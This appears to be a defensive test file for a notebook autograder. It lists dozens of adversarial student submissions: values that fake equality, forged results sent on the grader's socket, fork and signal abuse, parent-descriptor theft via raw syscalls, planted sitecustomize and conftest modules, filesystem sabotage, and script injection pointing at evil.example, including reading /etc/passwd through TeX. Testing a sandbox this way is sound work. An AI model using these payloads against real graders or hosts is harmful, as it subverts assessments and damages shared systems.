"""Attacks that no wall was built against by name, to be graded as one class.

The course asks four questions (2 + 3 + 2 + 2 points by test). Each attack stands in place of one or
more answers and says what honest code of its worth would get; what it leaves alone is right. Hidden
values of the course are ``CANARIES``: none may appear in anything that a student is shown.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any

from tests.autograder.classroom import Notebook, cell, notebook

CANARIES = ("714029", "363961", "persimmon", "0.2718459", "_hidden_twin")
ALL = (2.0, 3.0, 2.0, 2.0)
QUESTIONS = ("double", "search", "slope", "inside")

RIGHT = {
    "double": "def double(x):\n    return 2 * x",
    "search": (
        "def search(loss, rng, tries):\n"
        "    return min(float(loss(p)) for p in rng.standard_normal(tries))"
    ),
    "slope": (
        "def slope(w, X):\n    scores = X @ w\n"
        "    return float((scores ** 2).mean()), 2 * X.T @ scores / len(X)"
    ),
    "inside": "def inside(p):\n    return bool(p @ p < 1)",
}
TESTS = {
    "double": (
        2,
        "assert double(2) == 4\n### BEGIN HIDDEN TESTS\n"
        "_hidden_twin = lambda x: x + x  # persimmon\n"
        "for secret in (714029, 363961.0, np.array([0.2718459, 714029.0, 3.0])):\n"
        "    same = double(secret) == _hidden_twin(secret)\n"
        "    assert np.shape(double(secret)) == np.shape(secret) and np.all(same)\n"
        "### END HIDDEN TESTS",
    ),
    "search": (
        3,
        "assert search(abs, np.random.default_rng(0), 4) >= 0\n### BEGIN HIDDEN TESTS\n"
        "from autograder.checks import Counted, calls_made, reference\n"
        "_rng, _twin = np.random.default_rng(363961), np.random.default_rng(363961)\n"
        "for _tries in (7, 40):\n"
        "    _loss = Counted(lambda p: (p - 0.2718459) ** 2 + 714029, 'loss')\n"
        "    _got = search(_loss, _rng, _tries)\n"
        "    assert abs(_got - reference.search(_loss.function, _twin, _tries)) < 1e-9\n"
        "    calls_made('search', _loss, _tries)\n"
        "assert _rng.integers(1 << 40) == _twin.integers(1 << 40), 'draw what is stated'\n"
        "### END HIDDEN TESTS",
    ),
    "slope": (
        2,
        "_value, _gradient = slope(np.ones(2), np.eye(2))\nassert abs(_value - 1) < 1e-12\n"
        "### BEGIN HIDDEN TESTS\nfrom autograder.checks import agrees, rng\n"
        "for _n, _d in ((1, 3), (40, 5)):\n"
        "    _w, _X = rng('slope').standard_normal(_d), rng('X').standard_normal((_n, _d))\n"
        "    agrees('slope', slope, _w, _X, returns=('value', 'gradient'), given='normals')\n"
        "### END HIDDEN TESTS",
    ),
    "inside": (
        2,
        "assert inside(np.zeros(2))\n### BEGIN HIDDEN TESTS\nfrom autograder.checks import rng\n"
        "for _point in rng('points').standard_normal((40, 2)):\n"
        "    assert inside(_point) == (_point @ _point < 1)\n### END HIDDEN TESTS",
    ),
}


def source() -> Notebook:
    """The instructor's notebook."""
    cells = [cell("markdown", "# Attack"), cell("code", "import numpy as np", "given", locked=True)]
    for name in QUESTIONS:
        points, test = TESTS[name]
        answer = f"### BEGIN SOLUTION\n{RIGHT[name]}\n### END SOLUTION"
        cells.append(cell("code", answer, name, solution=True))
        cells.append(cell("code", test, f"test_{name}", grade=True, locked=True, points=points))
    cells.append(cell("markdown", "Why?", "words", grade=True, solution=True, points=1))
    return notebook(*cells)


@dataclass(frozen=True)
class Attack:
    """One submission: answers by question, cells before and after, files beside the notebook."""

    answers: dict[str, str] = field(default_factory=dict)
    deserved: tuple[float, float, float, float] = ALL
    before: str = ""
    after: str = ""
    files: dict[str, bytes] = field(default_factory=dict)
    words: str = "Because."

    def handed_in(self) -> bytes:
        """The notebook's bytes as the student hands it in."""
        made = source()
        kept: list[dict[str, Any]] = []
        for each in made["cells"]:
            name = each["metadata"].get("nbgrader", {}).get("grade_id", "")
            if name in QUESTIONS:
                each["source"] = self.answers.get(name, RIGHT[name])
            elif name.startswith("test_"):
                each["source"] = each["source"].partition("### BEGIN")[0].rstrip()
            elif name == "words":
                each["source"] = self.words
            kept.append(each)
            if name == "given" and self.before:
                kept.append(cell("code", self.before))
        if self.after:
            kept.append(cell("code", self.after))
        made["cells"] = kept
        return json.dumps(made).encode()


def no(*names: str) -> tuple[float, float, float, float]:
    """All points but those of these questions."""
    first, second, third, fourth = (
        0.0 if name in names else points for name, points in zip(QUESTIONS, ALL, strict=True)
    )
    return first, second, third, fourth


# The student's end of the conversation, found among all objects of the process.
END = (
    "import gc\ndef end():\n"
    "    return next(o for o in gc.get_objects() if type(o).__name__ == 'StudentEnd')\n"
)
HOG = (
    "import os\nfor _ in range(44):\n    if os.fork() == 0:\n"
    "        while True:\n            pass\n"
)

ATTACKS = {
    "honest": Attack(),
    # -- values that pretend ----------------------------------------------------------------
    "value: an int subclass that equals everything": Attack(
        {"double": "class I(int):\n    __eq__ = lambda s, o: True\n    __hash__ = int.__hash__\n"
         "def double(x):\n    return I(4)"}, no("double"),
    ),
    "value: a float subclass whose difference is always zero": Attack(
        {"search": "class F(float):\n    __sub__ = lambda s, o: 0.0\n    __abs__ = lambda s: 0.0\n"
         "def search(loss, rng, tries):\n    rng.standard_normal(tries)\n"
         "    [loss(0.0) for _ in range(tries)]\n    return F(0)"}, no("search"),
    ),
    "value: a masked array hides what is wrong": Attack(
        {"double": "def double(x):\n"
         "    return 4 if np.ndim(x) == 0 and x == 2 else np.ma.masked_all(np.shape(x))"},
        no("double"),
    ),
    "value: an array of objects that compare as they like": Attack(
        {"double": "class Yes:\n    __eq__ = lambda s, o: True\n    __hash__ = None\n"
         "def double(x):\n    return np.full(np.shape(x), Yes(), dtype=object)"}, no("double"),
    ),
    "value: a structured array": Attack(
        {"double": "def double(x):\n    return np.zeros(np.shape(x), dtype=[('a', 'f8')])"},
        no("double"),
    ),
    "value: keys that collide a million times": Attack(
        {"double": "def double(x):\n    return {(1 << 61) - 1 << k % 60 if k < 60 else "
         "k * ((1 << 61) - 1): 0 for k in range(200000)}"}, no("double"),
    ),
    "value: zero strides of a terabyte": Attack(
        {"double": "def double(x):\n    return np.broadcast_to(2.0, (1 << 37,))"}, no("double"),
    ),
    "value: lone surrogates, under keys that pretend": Attack(
        {"double": "class K(str):\n    __eq__ = lambda s, o: True\n    __hash__ = lambda s: 1\n"
         "def double(x):\n    return {K('\\udc80'): '\\ud800', K('a'): 1}"}, no("double"),
    ),
    "value: truth itself": Attack(
        {"inside": "def inside(p):\n    return np.bool_(True)"}, no("inside"),
    ),
    "value: an empty array is not equal to anything": Attack(
        {"inside": "def inside(p):\n    return np.array([])"}, no("inside"),
    ),
    "value: a tuple of the right value many times": Attack(
        {"slope": "def slope(w, X):\n    v = float(((X @ w) ** 2).mean())\n"
         "    return v, v * np.ones_like(w), v"}, no("slope"),
    ),
    "value: not a number where infinity is": Attack(
        {"slope": "def slope(w, X):\n    return float('inf'), np.full_like(w, np.inf)"},
        no("slope"),
    ),
    # -- counting, clocks and numbers of processes as oracles --------------------------------
    "oracle: the number of the call": Attack(
        {"inside": "calls = 0\ndef inside(p):\n    global calls\n    calls += 1\n"
         "    return calls % 3 == 1"}, no("inside"),
    ),
    "oracle: the number of the process": Attack(
        {"inside": "import os\ndef inside(p):\n    return os.getpid() % 2 == 0"}, no("inside"),
    ),
    "oracle: the clock": Attack(
        {"inside": "import time\ndef inside(p):\n    return time.perf_counter_ns() % 2 == 0"},
        no("inside"),
    ),
    "oracle: another question's callback": Attack(
        {"search": "seen = []\ndef search(loss, rng, tries):\n    seen.append(loss)\n"
         "    return min(float(loss(p)) for p in rng.standard_normal(tries))",
         "double": "def double(x):\n    return seen[0](x) if 'seen' in globals() and seen else 0"},
        no("double"),
    ),
    "oracle: a random generator moved far ahead": Attack(
        {"search": "def search(loss, rng, tries):\n"
         "    best = min(float(loss(p)) for p in rng.standard_normal(tries))\n"
         "    rng.bit_generator.advance(1 << 30)\n    return best"}, no("search"),
    ),
    "oracle: a look at the points before the game": Attack(
        {"search": "import copy\ndef search(loss, rng, tries):\n    ahead = copy.deepcopy(rng)\n"
         "    points = ahead.standard_normal(tries)\n"
         "    return min(float(loss(p)) for p in np.sort(points)[:2])"}, no("search"),
    ),
    "oracle: the loss of all points at once": Attack(
        {"search": "def search(loss, rng, tries):\n"
         "    return float(np.min(loss(rng.standard_normal(tries))))"}, no("search"),
    ),
    # -- the process of the student turned inside out ------------------------------------------
    "process: fork answers zero": Attack(
        before="import os\nos.fork = lambda: 0\nos._exit = lambda n: None",
        answers={"double": "def double(x):\n    return 4"},
        deserved=(0, 0, 0, 0),  # no test can be forked from it
    ),
    "process: keeps a note of every question": Attack(
        before="import sys\nnotes = []\n",
        answers={
            "inside": "def inside(p):\n    notes.append(p.copy())\n    return len(notes) < 20"
        },
        deserved=no("inside"),
    ),
    "process: blocks every signal": Attack(
        before="import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))\n"
        "for s in signal.Signals:\n    try:\n        signal.signal(s, signal.SIG_IGN)\n"
        "    except (OSError, ValueError):\n        pass",
    ),
    "process: signals everything in sight": Attack(
        before="import os, signal\nfor p in range(2, 400):\n    try:\n"
        "        p == os.getpid() or p == os.getppid() or os.kill(p, signal.SIGSTOP)\n"
        "    except OSError:\n        pass\ntry:\n    os.kill(1, signal.SIGSTOP)\n"
        "    os.kill(1, signal.SIGKILL)\nexcept OSError:\n    pass",
    ),
    "process: steals descriptors of its parent": Attack(
        before="import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "fd = libc.syscall(434, os.getppid(), 0)\n"
        "got = [libc.syscall(438, fd, n, 0) for n in range(3, 40)] if fd >= 0 else []\n"
        "for g in got:\n    if g >= 0:\n        os.write(g, b'{\"done\": true}\\n')",
    ),
    "process: io_uring, bpf, userfaultfd, keys, perf, clone3": Attack(
        before="import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "open_ = [n for n in (425, 321, 323, 248, 298, 310, 311, 428, 430, 442)\n"
        "         if libc.syscall(n, 0, 0, 0, 0, 0) >= 0]\n"
        "assert not open_, open_",
    ),
    "process: raises its own limits": Attack(
        before="import resource\nfor kind in (resource.RLIMIT_AS, resource.RLIMIT_NPROC,\n"
        "             resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):\n    try:\n"
        "        resource.setrlimit(kind, (resource.RLIM_INFINITY,) * 2)\n"
        "        raise SystemExit('raised')\n    except (ValueError, OSError):\n        pass",
    ),
    "process: makes itself more important": Attack(
        before="import os\nfor act in (lambda: os.nice(-20),\n"
        "            lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))):\n"
        "    try:\n        act()\n    except OSError:\n        pass",
    ),
    "process: leaves descriptors without end": Attack(
        before="import os\nkept = []\ntry:\n    while True:\n        kept += os.pipe()\n"
        "except OSError:\n    pass\nfor fd in kept[:40]:\n    os.close(fd)",
    ),
    "process: an exit handler that answers": Attack(
        before="import atexit, os\natexit.register(lambda: os.write(4, b'\\x00' * 99))",
    ),
    "process: half an answer, then silence": Attack(
        {"double": END + "import os, struct\ndef double(x):\n"
         "    end().connection.socket.sendall(struct.pack('>I', 100) + b'\\x95')\n"
         "    os._exit(0)"}, no("double"),
    ),
    "process: two children give two answers": Attack(
        {"double": "import os\ndef double(x):\n    os.fork()\n    return 2 * x if x is not None "
         "and np.size(x) == 1 else x"}, no("double"),
    ),
    "process: an answer to the next question from a child": Attack(
        {"inside": END + "import os\ndef inside(p):\n    e = end()\n    if os.fork() == 0:\n"
         "        for n in range(1, 60):\n"
         "            e.connection.send(e._encode(['value', n, bool(n % 2), [], []]))\n"
         "        os._exit(0)\n    return True"}, no("inside"),
    ),
    "process: a destructor that writes on the wire": Attack(
        {"double": END + "class D:\n    def __del__(self):\n"
         "        e = end()\n        e.connection.send(e._encode(['value', 2, 1428058, [], []]))\n"
         "def double(x):\n    D()\n    return 0"}, no("double"),
    ),
    "process: a name like a line of numbers": Attack(
        before="import ctypes, os\nlibc = ctypes.CDLL(None)\n"
        "libc.prctl(15, b') S 0 0 0 1 (\\n')\nif os.fork() == 0:\n"
        "    libc.prctl(15, b'x) Z 1 1 1')\n    while True:\n        pass",
    ),
    "process: no descriptor is left": Attack(
        before="import resource\nresource.setrlimit(resource.RLIMIT_NOFILE, (5, 5))",
    ),
    "process: no processor time is left": Attack(
        before="import resource\nresource.setrlimit(resource.RLIMIT_NPROC, (0, 0))\n"
        "resource.setrlimit(resource.RLIMIT_CPU, (1, 1))",
        deserved=(0, 0, 0, 0),  # its own limits are its own fault
    ),
    # -- hooks -------------------------------------------------------------------------------
    "hook: tracing, profiling and auditing watch every question": Attack(
        before="import sys\nseen = []\nsys.settrace(lambda f, e, a: seen.append(f.f_locals))\n"
        "sys.setprofile(lambda f, e, a: seen.append(a))\n"
        "sys.addaudithook(lambda e, a: seen.append((e, a)))",
        answers={"double": "def double(x):\n    raise ValueError(str(seen))"},
        deserved=no("double"),
    ),
    "hook: an audit hook that refuses what answers need": Attack(
        before="import sys\ndef hook(event, args):\n"
        "    if event.startswith(('socket', 'os.fork', 'open', 'import')):\n"
        "        raise RuntimeError(event)\nsys.addaudithook(hook)",
        deserved=(0, 0, 0, 0),
    ),
    "hook: the collector and a finalizer answer": Attack(
        {"double": END + "import weakref\nclass O:\n    pass\ndef answer(*_):\n    e = end()\n"
         "    for n in range(1, 9):\n"
         "        e.connection.send(e._encode(['value', n, 1428058, [], []]))\n"
         "def double(x):\n    o = O()\n    weakref.finalize(o, answer)\n"
         "    gc.callbacks.append(answer)\n    del o\n    gc.collect()\n    return 0"},
        no("double"),
    ),
    "hook: an alarm in the middle of an answer": Attack(
        {"double": "import signal\ndef ring(*_):\n    raise KeyboardInterrupt\n"
         "def double(x):\n    signal.signal(signal.SIGALRM, ring)\n"
         "    signal.setitimer(signal.ITIMER_REAL, 1e-4, 1e-4)\n    return 0 * x"}, no("double"),
    ),
    "hook: NumPy's errors are called back": Attack(
        {"double": "seen = []\nnp.seterrcall(lambda k, f: seen.append(k))\nnp.seterr(all='call')\n"
         "def double(x):\n    np.float64(1) / 0\n    return len(seen)"}, no("double"),
    ),
    "hook: IPython rewrites later cells": Attack(
        before="shell = get_ipython()\nshell.input_transformers_cleanup.append(\n"
        "    lambda lines: [line.replace('2 * x', '4') for line in lines])\n"
        "shell.events.register('pre_run_cell', lambda *_: 1 / 0)",
        deserved=no("double"),
    ),
    # -- names -------------------------------------------------------------------------------
    "names: everything that a test could use": Attack(
        before="def liar(*a, **k):\n    return True\n",
        after="for name in ('assert_', 'agrees', 'rng', 'reference', 'Counted', 'calls_made', "
        "'checks', '_hidden_twin', 'AssertionError', 'abs', 'all', 'len', 'max', 'same', "
        "'__score__', '__name__', 'get_ipython', 'secret', '_point'):\n"
        "    globals()[name] = liar\ndouble = inside = liar",
    ),  # after the last test: each has met what stood before it
    "names: a score of its own": Attack(
        before="__score__ = 100", answers={"double": "__score__ = 2.0"}, deserved=no("double"),
    ),
    "names: numpy replaced in the notebook's modules": Attack(
        before="import sys, types\nfake = types.ModuleType('numpy')\n"
        "fake.__getattr__ = lambda n: (lambda *a, **k: True)\n",
        answers={"inside": "import sys\nsys.modules['numpy'] = fake\n"
                 "def inside(p):\n    return True"}, deserved=no("inside"),
    ),
    # -- exceptions ----------------------------------------------------------------------------
    "exception: the grader's own": Attack(
        {"double": "from autograder.judge import remote\n"
         "def double(x):\n    raise remote.ResultRefused('double', 'nothing')"}, no("double"),
    ),
    "exception: a group with the inputs in its notes": Attack(
        {"double": "def double(x):\n    e = ExceptionGroup(str(x), [ValueError(str(x))])\n"
         "    e.add_note(str(x))\n    raise e"}, no("double"),
    ),
    "exception: ten megabytes of text": Attack(
        {"double": "def double(x):\n    raise ValueError(str(x) * 2000000)"}, no("double"),
    ),
    "exception: whose text never ends": Attack(
        {"double": "class E(Exception):\n    def __str__(self):\n        while True:\n            "
         "pass\ndef double(x):\n    raise E"}, no("double"),
    ),
    "exception: the line tells a digit at a time": Attack(
        {"double": "def double(x):\n    n = int(np.max(x))\n"
         + "".join(f"    if n // 10 ** {p} % 10 == {d}: raise ValueError\n"
                   for p in range(3) for d in range(10))}, no("double"),
    ),
    # -- files and folders ------------------------------------------------------------------------
    "files: modules of the grader, handed in": Attack(
        {"double": "def double(x):\n    return 4"}, no("double"),
        files={
            f"{name}.py": b"import os, sys\nsys.modules['builtins'].abs = lambda *a: 0\n"
            b"open('/tmp/owned-by-a-student', 'w').close()\n"
            for name in ("autograder", "lossland", "sitecustomize", "usercustomize", "json",
                         "msgpack", "scipy", "conftest", "random", "nbgrader_config", "mistakes")
        },
    ),
    "files: a configuration beside the notebook": Attack(
        files={"nbgrader_config.py": b"open('/tmp/owned-by-a-student', 'w').close()\n",
               "ipython_config.py": b"open('/tmp/owned-by-a-student', 'w').close()\n",
               ".ipython/profile_default/startup/00.py": b"raise SystemExit\n"},
    ),
    "files: a folder nobody can empty": Attack(
        before="import os\nhere = os.getcwd()\nfor n in range(400):\n    os.mkdir('d')\n"
        "    os.chdir('d')\nos.chdir(here)\nos.makedirs('locked/inside')\nos.chmod('locked', 0)\n"
        "os.mkfifo('pipe')\nos.symlink('/proc/self/mem', 'memory')\nos.symlink('.', 'loop')",
    ),
    "files: modules for the next process to import": Attack(
        before="for n in ('numpy', 'autograder', 'json', 'sitecustomize'):\n"
        "    open(n + '.py', 'w').write('raise SystemExit')\n"
        "open('matplotlibrc', 'w').write('backend: nonsense')",
    ),
    "files: all the names that fit": Attack(
        before="try:\n    for n in range(20000):\n        open(f'/tmp/{n}', 'w').close()\n"
        "except OSError:\n    pass",
    ),
    "files: holes of three hundred gigabytes": Attack(
        before="for n in range(5000):\n    with open(f'hole{n}', 'wb') as file:\n"
        "        file.truncate(60 << 20)",
    ),
    "files: rights, links and times that nobody has": Attack(
        before="import os\nos.umask(0o777)\nopen('a', 'w').write('x')\nos.link('a', 'b')\n"
        "os.utime('a', ns=(-1, 1 << 62))\nos.mkdir('c')\nos.chmod('.', 0o100)\n"
        "os.chmod('/tmp', 0)",
    ),
    "files: the floor is taken away": Attack(
        before="import os\nhere = os.getcwd()\nfor there in ('/tmp/elsewhere', here + 'x'):\n"
        "    try:\n        os.rename(here, there)\n    except OSError:\n        pass\n"
        "os.mkdir('/tmp/gone')\nos.chdir('/tmp/gone')\nos.rmdir('/tmp/gone')",
    ),
    "files: more side files than anyone reads": Attack(
        files={f"data/{n}.txt": b"x" for n in range(1500)},
    ),
    # -- what the notebook shows ------------------------------------------------------------------
    "shown: a figure as large as a house": Attack(
        before="import matplotlib.pyplot as plt\nplt.figure(figsize=(600, 600))\nplt.plot([1, 2])",
    ),
    "shown: a million dots an inch": Attack(
        before="import matplotlib.pyplot as plt\nplt.rcParams['savefig.dpi'] = 1e6\n"
        "plt.rcParams['figure.dpi'] = 1e5\nplt.plot([1, 2])",
    ),
    "shown: figures set by TeX, in a format of their own": Attack(
        before="import matplotlib.pyplot as plt\nplt.rcParams['text.usetex'] = True\n"
        "plt.rcParams['savefig.format'] = 'svg'\nplt.plot([1, 2])\n"
        "plt.title(r'$\\input{/etc/passwd}$')",
    ),
    "shown: messages of widgets": Attack(
        before="import ipywidgets\nfrom comm import create_comm\n"
        "from IPython.display import display\n"
        "display(ipywidgets.HTML('<script>document.title = 1</script>'))\n"
        "create_comm(target_name='x', data={'<script>': 1}).send({'a': '<script>'})",
    ),
    "shown: lone surrogates": Attack(
        before="from IPython.display import Markdown, display\nprint('\\ud800\\udfff')\n"
        "display(Markdown('\\ud800<script>document.title = 1</script>'))\n'\\udc80'",
    ),
    "shown: a thousand figures": Attack(
        before="import matplotlib.pyplot as plt\nfor n in range(60):\n"
        "    plt.figure(figsize=(1, 1))\n    plt.plot([n])",
    ),
    "shown: scripts and escape sequences": Attack(
        before="from IPython.display import HTML, Javascript, display\n"
        "display(HTML('<script>document.title = 1</script>'), Javascript('alert(1)'))\n"
        "print('\\x1b]0;owned\\x07\\x1b[2J\\x9b31m', '<img src=//evil.example/x>')",
    ),
    "shown: the written answer is a form": Attack(
        words="<form action='https://evil.example'><input class='score' id='x' autofocus "
        "onfocus=alert(1)></form> ![x](https://evil.example/x.png) $\\href{javascript:1}{x}$",
    ),
}  # fmt: skip
